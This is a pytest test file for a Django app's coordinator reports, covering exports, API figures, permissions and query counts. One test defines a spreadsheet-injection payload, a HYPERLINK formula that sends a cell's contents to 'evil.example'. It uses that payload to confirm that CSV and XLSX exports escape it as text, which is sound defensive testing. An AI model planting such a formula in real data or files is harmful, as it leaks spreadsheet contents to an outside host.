"""Report pages, drill-downs, exports, the API, permissions and query counts."""

import csv
import io
from datetime import date

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from referrals.reports import registry
from referrals.reports.models import BuildingBlockScore
from referrals.reports.scope import scope_from
from tests.referrals.reports import report_data as data

NAMES = list(registry.REPORTS)
QUERY = "?from=2026-01-01&to=2026-03-31"


@pytest.fixture
def programme(db, volunteer, other_volunteer, coordinator):
    with time_machine.travel(data.TODAY, tick=False):
        yield data.build(volunteer, other_volunteer, coordinator)


def _json(client, name, value="value"):
    answer = client.get(f"/api/v1/reports/{name}/{QUERY}")
    assert answer.status_code == 200, answer.content
    return {f["key"]: f[value] for f in answer.json()["figures"]}


def _number(value):
    try:
        return float(value)
    except ValueError:  # "< 5" or "hidden"
        return value


@pytest.mark.parametrize("name", NAMES)
def test_csv_and_xlsx_hold_the_same_numbers_as_the_api(programme, coordinator, client_for, name):
    client = client_for(coordinator)
    client.cookies["digibuddy_language"] = "en"
    with time_machine.travel(data.TODAY, tick=False):
        api = _json(client, name, "shared_value")  # a file is shared: small numbers hidden
        csv_answer = client.get(reverse("reports:export", args=[name, "csv"]) + QUERY)
        xlsx_answer = client.get(reverse("reports:export", args=[name, "xlsx"]) + QUERY)
    header, *rows = list(csv.reader(io.StringIO(csv_answer.content.decode())))
    assert header == ["Group", "Figure", "Key", "Value", "Unit"]
    assert {row[2]: row[3] for row in rows} == {k: str(v) for k, v in api.items()}
    sheet = load_workbook(io.BytesIO(xlsx_answer.content)).active
    cells = {row[2]: row[3] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert {k: _number(v) for k, v in cells.items()} == {k: _number(v) for k, v in api.items()}


def test_report_page_shows_the_api_numbers_with_links_to_the_rows(
    programme, coordinator, client_for
):
    client = client_for(coordinator)
    html = client.get(reverse("reports:detail", args=["sessions"]) + QUERY).content.decode()
    assert _json(client, "sessions")["done"] == 6
    done_link = reverse("reports:rows", args=["sessions"]) + "?from=2026-01-01&amp;to=2026-03-31"
    assert f'href="{done_link}&amp;status=done"' in html
    assert ">6</a>" in html
    rows = client.get(reverse("reports:rows", args=["sessions"]) + QUERY + "&status=done")
    assert rows.content.decode().count('<th scope="row">') == 6


def test_report_charts_have_a_text_alternative_and_a_table(programme, coordinator, client_for):
    client = client_for(coordinator)
    client.cookies["digibuddy_language"] = "en"
    html = client.get(reverse("reports:detail", args=["reach"]) + QUERY).content.decode()
    assert '<svg class="chart" role="img"' in html
    assert "<title" in html and "Reach: By age</title>" in html
    assert "<desc" in html and "75 to 84: 1 residents" in html
    assert "<caption>Reach: By age</caption>" in html


def test_location_filter_and_bad_input(programme, coordinator, client_for):
    client = client_for(coordinator)
    at_a = client.get(f"/api/v1/reports/sessions/{QUERY}&location={programme.a.pk}").json()
    assert {f["key"]: f["value"] for f in at_a["figures"]}["done"] == 4
    assert client.get("/api/v1/reports/sessions/?from=2026-03-01&to=2026-01-01").status_code == 400
    assert client.get("/api/v1/reports/sessions/?from=yesterday").status_code == 400
    assert client.get("/api/v1/reports/nonsense/").status_code == 404
    bad = client.get(reverse("reports:detail", args=["sessions"]) + "?from=nope")
    assert bad.status_code == 400


def test_api_is_documented(db, coordinator, client_for):
    schema = client_for(coordinator).get("/api/schema/").content.decode()
    assert "/api/v1/reports/{name}/" in schema


def test_printable_and_index_pages_show_every_report(programme, coordinator, client_for):
    client = client_for(coordinator)
    client.cookies["digibuddy_language"] = "en"
    for url in (reverse("reports:print"), reverse("reports:index")):
        html = client.get(url + QUERY).content.decode()
        for title in ("Reach", "Sessions", "Waiting", "Volunteers", "Referrals", "Workshops"):
            assert f">{title}</h2>" in html


def test_building_blocks_show_evidence_and_keep_a_score(programme, coordinator, client_for):
    client = client_for(coordinator)
    client.cookies["digibuddy_language"] = "en"
    url = reverse("reports:blocks") + QUERY
    html = client.get(url).content.decode()
    assert html.count('class="block card"') == 8
    assert "Intersectoral cooperation" in html and "Bank" in html
    answer = client.post(url, {"block": "cooperation", "score": "4", "comment": "Goed"})
    assert answer.status_code == 302
    score = BuildingBlockScore.objects.get()
    assert (score.block, score.score, score.period_from, score.period_to, score.by) == (
        "cooperation", 4, date(2026, 1, 1), date(2026, 3, 31), coordinator,
    )  # fmt: skip
    assert "Score 4 of 5" in client.get(url).content.decode()


@pytest.mark.parametrize(
    "url",
    [
        reverse("reports:index"),
        reverse("reports:detail", args=["reach"]),
        reverse("reports:rows", args=["reach"]),
        reverse("reports:export", args=["reach", "csv"]),
        reverse("reports:print"),
        reverse("reports:blocks"),
        "/api/v1/reports/reach/",
    ],
)
def test_reports_are_for_coordinators_only(
    db, url, coordinator, volunteer, social_worker, client, client_for
):
    anonymous = client.get(url)
    assert anonymous.status_code in (302, 401, 403)
    for user in (volunteer, social_worker):
        assert client_for(user).get(url).status_code == 403
    assert client_for(coordinator).get(url).status_code == 200


# --- a fixed number of queries per report ---------------------------------------------------


def _more(programme, times: int) -> None:
    """Copy the programme's residents and sessions `times` over, later the same day."""
    from buddies.models import Resident
    from scheduling.models import HelpSession

    originals = list(HelpSession.objects.filter(start__year=2026).select_related("resident"))
    for copy in range(1, times + 1):
        for session in originals:
            old = session.resident
            resident = Resident.objects.create(
                first_name=f"{old.first_name}{copy}", last_name="Kopie",
                birth_year=old.birth_year, waiting_since=old.waiting_since,
            )  # fmt: skip
            data.session(resident, session.volunteer, session.location,
                         session.start.astimezone(data.BRUSSELS).date(), status=session.status,
                         by=session.cancelled_by, topics=[programme.itsme],
                         hour=11 + 2 * copy)  # fmt: skip


def _count(name) -> int:
    scope, _form = scope_from(data.PERIOD)
    with CaptureQueriesContext(connection) as queries:
        registry.build(name, scope)
    return len(queries)


# reach: residents helped (2), then walk-ins and residents with a booked session (2).
MAX_QUERIES = {"reach": 4, "sessions": 1, "waiting": 2, "volunteers": 2, "topics": 4,
               "referrals": 4, "workshops": 1, "support": 5, "autonomy": 4}  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_each_report_costs_a_fixed_number_of_queries(programme, name):
    with time_machine.travel(data.TODAY, tick=False):
        small = _count(name)
        _more(programme, 3)
        large = _count(name)
    assert small == large <= MAX_QUERIES[name]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Maria")'


def test_a_name_written_as_a_formula_is_text_in_csv_and_xlsx(programme, coordinator, client_for):
    from scheduling.models import Location

    for place in Location.objects.all():
        place.name = f"{FORMULA} {place.pk}"
        place.save(update_fields=["name"])
    client = client_for(coordinator)
    with time_machine.travel(data.TODAY, tick=False):
        csv_answer = client.get(reverse("reports:export", args=["reach", "csv"]) + QUERY)
        xlsx_answer = client.get(reverse("reports:export", args=["reach", "xlsx"]) + QUERY)
    labels = [row[1] for row in csv.reader(io.StringIO(csv_answer.content.decode()))]
    named = [label for label in labels if FORMULA in label]
    assert named and all(label.startswith("'" + FORMULA) for label in named)
    sheet = load_workbook(io.BytesIO(xlsx_answer.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    named = [cell for cell in cells if FORMULA in str(cell.value)]
    assert named and all(
        cell.data_type == "s" and cell.value.startswith("'" + FORMULA) for cell in named
    )
